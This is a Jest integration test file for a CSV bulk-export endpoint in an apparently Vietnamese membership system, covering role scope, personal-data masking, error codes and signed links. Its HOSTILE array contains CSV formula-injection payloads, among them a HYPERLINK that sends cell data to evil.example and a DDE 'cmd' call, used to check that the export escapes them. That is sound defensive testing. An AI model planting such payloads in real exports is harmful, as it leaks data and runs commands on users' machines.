/**
 * The bulk export (issue 11): GET /export/<resource>.csv streams the list itself — the same rows
 * in the same order as allXs pages, the same scope and personal-data masking — as CSV with a BOM
 * and neutralised formula cells; refusals are the contract's JSON errors before any CSV.
 */
import Papa from 'papaparse';
import { Api, startTestServer, TestServer } from './support/harness';
import { TreeBuilder } from '../server/db/tree-builder';
import { Gender, MemberStatus } from '../server/member/member.entity';
import { OrgUnit } from '../server/org/org-unit.entity';
import { rng } from '../server/db/names';

let t: TestServer;
beforeAll(async () => {
  t = await startTestServer();
  await populate();
}, 120_000);
afterAll(() => t?.stop());

/** Values a spreadsheet would run as formulas, and harmless ones that look close. */
const HOSTILE = ['=HYPERLINK("http://evil.example/?d="&B2,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '=1+1\nghi chú'];
const HARMLESS = ['a=b', 'Lê Văn "Nam"', 'dòng 1\r\ndòng 2', 'Đặng; Lê', ' =1+1 '];
const MANY = 3000;

async function populate() {
  const r = rng(5);
  const { T1, T2, G1, G2, G3, G4 } = t.fx;
  const places: OrgUnit[] = [T1, T2, G1, G2, G3, G3, G4];
  await t.ds.transaction(async (em) => {
    const b = new TreeBuilder(em);
    const rows = [];
    for (let i = 0; i < MANY; i++) {
      const hostile = i < 40 ? HOSTILE[i % HOSTILE.length] : i < 60 ? HARMLESS[i % HARMLESS.length] : null;
      rows.push(
        b.memberRow(places[i % places.length], {
          // Names repeat, so that the order by name needs its tie-break by id across page boundaries.
          fullName: hostile ?? `Nguyễn Thị ${['An', 'Bình', 'Chi', 'Dung', 'Hà'][Math.floor(r() * 5)]}`,
          gender: r() < 0.55 ? Gender.FEMALE : Gender.MALE,
          birthDate: `${1965 + Math.floor(r() * 40)}-0${1 + Math.floor(r() * 9)}-1${Math.floor(r() * 9)}`,
          phone: `09${String(Math.floor(r() * 1e8)).padStart(8, '0')}`,
          email: `dv${i}@example.vn`,
          nationalId: `038${String(Math.floor(r() * 1e9)).padStart(9, '0')}`,
          joinedAt: `20${10 + Math.floor(r() * 14)}-03-01`,
          cardNumber: `EX-${i}`,
          occupation: i >= 60 && i < 70 ? HOSTILE[i % HOSTILE.length] : 'Viên chức',
          ethnicity: r() < 0.8 ? 'Kinh' : 'Mường',
          status: r() < 0.05 ? MemberStatus.LEFT : MemberStatus.ACTIVE,
        }),
      );
    }
    await b.members(rows);
  });
}

interface Download {
  status: number;
  type: string | null;
  text: string;
  json?: any;
}

async function download(path: string, token?: string | null, init: RequestInit = {}): Promise<Download> {
  const res = await fetch(`${t.url}${path}`, { ...init, headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...(init.headers ?? {}) } });
  // Buffer keeps a BOM where res.text() (WHATWG's UTF-8 decode) drops it.
  const text = Buffer.from(await res.arrayBuffer()).toString('utf8');
  const type = res.headers.get('content-type');
  return { status: res.status, type, text, json: type?.startsWith('application/json') ? JSON.parse(text) : undefined };
}

const exportPath = (resource: string, q: { filter?: object; sortField?: string; sortOrder?: string } = {}) => {
  const p = new URLSearchParams();
  if (q.filter) p.set('filter', JSON.stringify(q.filter));
  if (q.sortField) p.set('sortField', q.sortField);
  if (q.sortOrder) p.set('sortOrder', q.sortOrder);
  return `/export/${resource}.csv${p.size ? `?${p}` : ''}`;
};

/** The CSV's header and rows, read by papaparse as a script would; the BOM checked and removed. */
function table(text: string): { header: string[]; rows: string[][] } {
  expect(text.charCodeAt(0)).toBe(0xfeff);
  const parsed = Papa.parse<string[]>(text.slice(1), { newline: '\r\n', skipEmptyLines: false });
  expect(parsed.errors).toEqual([]);
  const data = parsed.data;
  // The file ends with a line break: papaparse reads one empty last line.
  expect(data[data.length - 1]).toEqual(['']);
  return { header: data[0], rows: data.slice(1, -1) };
}

const FORMULA = /^[=+\-@\t\r]/;
/** What the CSV holds for a list value: text that starts like a formula behind an apostrophe. */
const asCsv = (v: unknown) => (v == null ? '' : typeof v === 'string' && FORMULA.test(v) ? `'${v}` : String(v));

const tokens: Record<string, string> = {};
async function tokenOf(who: Parameters<TestServer['as']>[0]): Promise<string> {
  if (!tokens[who]) {
    const r = await (await t.as(who)).q(`mutation { createApiToken(name: "export") { token } }`);
    tokens[who] = r.createApiToken.token;
  }
  return tokens[who];
}

/** Every row of a list through allXs, page after page (perPage 1000), with the fields named. */
async function listAll(api: Api, type: string, plural: string, fields: string[], q: { filter?: object; sortField?: string; sortOrder?: string }): Promise<any[]> {
  const out: any[] = [];
  for (let page = 0; ; page++) {
    const r = await api.q(
      `query($f: ${type}Filter, $p: Int, $s: String, $o: String) { items: all${plural}(filter: $f, page: $p, perPage: 1000, sortField: $s, sortOrder: $o) { ${fields.join(' ')} } total: _all${plural}Meta(filter: $f) { count } }`,
      { f: q.filter, p: page, s: q.sortField, o: q.sortOrder },
    );
    out.push(...r.items);
    if (r.items.length < 1000) {
      expect(out).toHaveLength(r.total.count);
      return out;
    }
  }
}

async function expectEqualToList(who: Parameters<TestServer['as']>[0], resource: string, type: string, plural: string, q: { filter?: object; sortField?: string; sortOrder?: string }) {
  const d = await download(exportPath(resource, q), await tokenOf(who));
  expect({ status: d.status, type: d.type }).toEqual({ status: 200, type: 'text/csv; charset=utf-8' });
  const { header, rows } = table(d.text);
  const list = await listAll(await t.as(who), type, plural, header, q);
  expect(rows).toHaveLength(list.length);
  rows.forEach((row, i) => {
    const expected = header.map((h) => asCsv(list[i][h]));
    if (row.join('\u0001') !== expected.join('\u0001')) expect({ i, row }).toEqual({ i, row: expected });
  });
  return { header, rows, list };
}

describe('the export is the list, row for row', () => {
  it('a federation admin’s members, by name, in the order of allMembers pages, personal data included', async () => {
    const { header, rows } = await expectEqualToList('fedAdmin', 'members', 'Member', 'Members', {});
    expect(rows.length).toBeGreaterThan(2000);
    expect(header.slice(0, 3)).toEqual(['id', 'fullName', 'gender']);
    for (const f of ['birthDate', 'phone', 'email', 'nationalId', 'grassrootsUnionId', 'teamId', 'status', 'createdAt']) expect(header).toContain(f);
    // The admin reads personal data: the export carries it.
    const phone = header.indexOf('phone');
    expect(rows.filter((r) => r[phone] !== '').length).toBeGreaterThan(2000);
  });

  it('with a filter and another order (women who joined since 2015, newest first)', async () => {
    const q = { filter: { gender: ['FEMALE'], joinedAt_gte: '2015-01-01' }, sortField: 'joinedAt', sortOrder: 'DESC' };
    const { rows } = await expectEqualToList('sysadmin', 'members', 'Member', 'Members', q);
    expect(rows.length).toBeGreaterThan(500);
  });

  it('for an analyst: personal data empty, and filtering or sorting on it refused', async () => {
    const { header, rows } = await expectEqualToList('analyst', 'members', 'Member', 'Members', { filter: { ethnicity: ['Mường'] } });
    expect(rows.length).toBeGreaterThan(100);
    for (const f of ['birthDate', 'phone', 'email', 'nationalId']) {
      const i = header.indexOf(f);
      expect({ f, values: [...new Set(rows.map((r) => r[i]))] }).toEqual({ f, values: [''] });
    }
    const token = await tokenOf('analyst');
    const sorted = await download(exportPath('members', { sortField: 'birthDate' }), token);
    expect({ status: sorted.status, code: sorted.json?.errors[0].extensions.code }).toEqual({ status: 403, code: 'FORBIDDEN' });
    const filtered = await download(exportPath('members', { filter: { phone: ['0912000000'] } }), token);
    expect({ status: filtered.status, code: filtered.json?.errors[0].extensions.code }).toEqual({ status: 403, code: 'FORBIDDEN' });
  });

  it('inside the scope only: a grassroots chair gets its own union’s members, nothing of the others', async () => {
    const { rows, header } = await expectEqualToList('chair', 'members', 'Member', 'Members', {});
    const g = header.indexOf('grassrootsUnionId');
    expect(new Set(rows.map((r) => r[g]))).toEqual(new Set([String(t.fx.G1.id)]));
    const other = await download(exportPath('members', { filter: { federationId: [String(t.fx.F2.id)] } }), await tokenOf('fedAdmin'));
    expect(table(other.text).rows).toEqual([]);
  });

  it('other lists too: nominations, grassroots unions, award types', async () => {
    await (await t.as('chair')).q(`mutation($t: ID!, $m: ID!) { createNomination(awardTypeId: $t, year: 2025, achievements: "=cmd", nomineeMemberId: $m) { id } }`, {
      t: (await (await t.as('chair')).q(`{ allAwardTypes(filter: { code: ["GK_CDCS_CN"] }) { id } }`)).allAwardTypes[0].id,
      m: String(t.fx.m.hoa.id),
    });
    const n = await expectEqualToList('unionAdmin', 'nominations', 'Nomination', 'Nominations', {});
    expect(n.rows.length).toBe(1);
    expect(n.rows[0][n.header.indexOf('achievements')]).toBe("'=cmd");
    await expectEqualToList('fedAdmin', 'grassrootsUnions', 'GrassrootsUnion', 'GrassrootsUnions', {});
    await expectEqualToList('analyst', 'awardTypes', 'AwardType', 'AwardTypes', { sortField: 'name' });
  });
});

describe('cells and encoding', () => {
  it('starts with a UTF-8 BOM; a cell starting with = + - @ tab or CR gets an apostrophe; everything else is unchanged', async () => {
    const d = await download(exportPath('members', { filter: { cardNumber: Array.from({ length: 70 }, (_, i) => `EX-${i}`) }, sortField: 'cardNumber' }), await tokenOf('sysadmin'));
    const bytes = Buffer.from(d.text, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const { header, rows } = table(d.text);
    const name = header.indexOf('fullName');
    const occupation = header.indexOf('occupation');
    const names = rows.map((r) => r[name]);
    for (const h of HOSTILE) expect(names).toContain(`'${h}`);
    for (const h of HARMLESS) expect(names).toContain(h);
    expect(rows.map((r) => r[name]).filter((v) => FORMULA.test(v))).toEqual([]);
    expect(rows.map((r) => r[occupation]).filter((v) => FORMULA.test(v))).toEqual([]);
    expect(rows.map((r) => r[occupation]).filter((v) => v.startsWith("'")).length).toBe(10);
    // Numbers are not text: an id is never escaped, whatever its digits.
    expect(rows.every((r) => /^[0-9]+$/.test(r[0]))).toBe(true);
  });
});

describe('refusals come first, as JSON with the contract’s codes', () => {
  const expectRefusal = (d: Download, status: number, code: string, field?: string) => {
    expect({ status: d.status, type: d.type, code: d.json?.errors?.[0]?.extensions?.code, field: d.json?.errors?.[0]?.extensions?.field }).toEqual({
      status, type: 'application/json; charset=utf-8', code, field,
    });
  };

  it('401 without a token, with a wrong one, and with a revoked personal token', async () => {
    expectRefusal(await download('/export/members.csv'), 401, 'UNAUTHENTICATED');
    expectRefusal(await download('/export/members.csv', 'not-a-token'), 401, 'UNAUTHENTICATED');
    const api = await t.as('chair4');
    const made = (await api.q(`mutation { createApiToken(name: "x") { token apiToken { id } } }`)).createApiToken;
    expect((await download('/export/members.csv', made.token)).status).toBe(200);
    await api.q(`mutation($id: ID!) { deleteApiToken(id: $id) { id } }`, { id: made.apiToken.id });
    expectRefusal(await download('/export/members.csv', made.token), 401, 'UNAUTHENTICATED');
  });

  it('a JWT from login works as well as a personal token', async () => {
    const jwt = (await t.anon.q('mutation { login(username: "chair", password: "secret-pass-1") { token } }')).login.token;
    const d = await download('/export/members.csv', jwt);
    expect(d.status).toBe(200);
    expect(table(d.text).rows.length).toBeGreaterThan(100);
  });

  it('403 for a list the role may not read; 404 for no such list', async () => {
    expectRefusal(await download('/export/users.csv', await tokenOf('analyst')), 403, 'FORBIDDEN');
    expectRefusal(await download('/export/auditEvents.csv', await tokenOf('analyst')), 403, 'FORBIDDEN');
    expectRefusal(await download('/export/apiTokens.csv', await tokenOf('analyst')), 404, 'NOT_FOUND');
    expectRefusal(await download('/export/nothing.csv', await tokenOf('analyst')), 404, 'NOT_FOUND');
  });

  it('400 naming the argument: a filter that is not JSON or not the list’s filter, an unknown sort', async () => {
    const token = await tokenOf('fedAdmin');
    expectRefusal(await download('/export/members.csv?filter=%7Bgender', token), 400, 'BAD_USER_INPUT', 'filter');
    expectRefusal(await download(exportPath('members', { filter: { salary: 1 } }), token), 400, 'BAD_USER_INPUT', 'filter');
    expectRefusal(await download(exportPath('members', { filter: { gender: ['WOMAN'] } }), token), 400, 'BAD_USER_INPUT', 'filter');
    expectRefusal(await download(exportPath('members', { filter: { joinedAt_gte: '2020-02-30' } }), token), 400, 'BAD_USER_INPUT', 'joinedAt_gte');
    expectRefusal(await download(exportPath('members', { sortField: 'nope' }), token), 400, 'BAD_USER_INPUT', 'sortField');
    expectRefusal(await download(exportPath('members', { sortOrder: 'UP' }), token), 400, 'BAD_USER_INPUT', 'sortOrder');
    const post = await download('/export/members.csv', token, { method: 'POST' });
    expect(post.status).toBe(405);
  });

  it('the server goes on when a client leaves in the middle of a long export', async () => {
    const ctrl = new AbortController();
    const res = await fetch(`${t.url}/export/members.csv`, { headers: { authorization: `Bearer ${await tokenOf('sysadmin')}` }, signal: ctrl.signal });
    const reader = res.body!.getReader();
    await reader.read();
    ctrl.abort();
    await reader.read().catch(() => undefined);
    expect((await fetch(`${t.url}/healthz`)).status).toBe(200);
    expect((await download('/export/awardTypes.csv', await tokenOf('sysadmin'))).status).toBe(200);
  });
});

describe('signed links for browser downloads (exportUrl)', () => {
  const URL_Q = `query($r: String!, $f: String, $s: String, $o: String) { exportUrl(resource: $r, filter: $f, sortField: $s, sortOrder: $o) }`;

  it('a link made from a signed-in session downloads the same file without a header, for a minute, as that account only', async () => {
    const api = await t.as('unionAdmin');
    const filter = JSON.stringify({ gender: ['MALE'] });
    const link = (await api.q(URL_Q, { r: 'members', f: filter, s: 'cardNumber' })).exportUrl as string;
    expect(link).toMatch(/^\/export\/members\.csv\?/);
    const viaLink = await download(link);
    const viaHeader = await download(exportPath('members', { filter: { gender: ['MALE'] }, sortField: 'cardNumber' }), await tokenOf('unionAdmin'));
    expect(viaLink.status).toBe(200);
    expect(viaLink.text).toBe(viaHeader.text);
    // Changed in any way, it is refused.
    const u = new URL(link, t.url);
    u.searchParams.set('filter', JSON.stringify({ gender: ['FEMALE'] }));
    expect((await download(u.pathname + u.search)).status).toBe(401);
    expect((await download(link.replace('/members.csv', '/nominations.csv'))).status).toBe(401);
  });

  it('is refused when the request would be: another role’s list, a bad filter; and to a personal token', async () => {
    const analyst = await t.as('analyst');
    expect(await analyst.codeOf(URL_Q, { r: 'users' })).toBe('FORBIDDEN');
    const e = (await analyst.errorsOf(URL_Q, { r: 'members', f: '{"birthDate_gte":"1990-01-01"}' }))[0];
    expect(e.extensions?.code).toBe('FORBIDDEN');
    const bad = (await analyst.errorsOf(URL_Q, { r: 'members', f: '{"gender":"X"}' }))[0];
    expect(bad.extensions).toEqual({ code: 'BAD_USER_INPUT', field: 'filter' });
    expect((await analyst.errorsOf(URL_Q, { r: 'nothing' }))[0].extensions).toEqual({ code: 'BAD_USER_INPUT', field: 'resource' });
    expect(await new Api(t.url, await tokenOf('analyst')).codeOf(URL_Q, { r: 'members' })).toBe('FORBIDDEN');
    expect(await t.anon.codeOf(URL_Q, { r: 'members' })).toBe('UNAUTHENTICATED');
  });

  it('dies with the sessions of its account (a new password)', async () => {
    const admin = await t.as('sysadmin');
    const username = `link.${Date.now()}`;
    await admin.q(`mutation($u: String!) { createUser(username: $u, password: "first-pass-123", fullName: "Liên kết", role: ANALYST) { id } }`, { u: username });
    const token = (await t.anon.q(`mutation($u: String!) { login(username: $u, password: "first-pass-123") { token user { id } } }`, { u: username })).login;
    const api = new Api(t.url, token.token);
    const link = (await api.q(URL_Q, { r: 'awardTypes' })).exportUrl;
    expect((await download(link)).status).toBe(200);
    await api.q(`mutation($id: ID!) { updateUser(id: $id, password: "second-pass-456") { id } }`, { id: token.user.id });
    expect((await download(link)).status).toBe(401);
  });
});
